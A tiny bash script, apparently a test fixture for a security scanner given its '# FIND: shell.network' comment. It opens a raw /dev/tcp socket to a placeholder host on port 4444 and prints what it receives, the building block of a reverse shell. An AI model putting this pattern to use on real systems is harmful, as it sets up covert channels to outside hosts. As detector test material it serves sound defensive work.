#!/bin/bash
exec 3<>/dev/tcp/192.0.2.7/4444  # FIND: shell.network
cat <&3
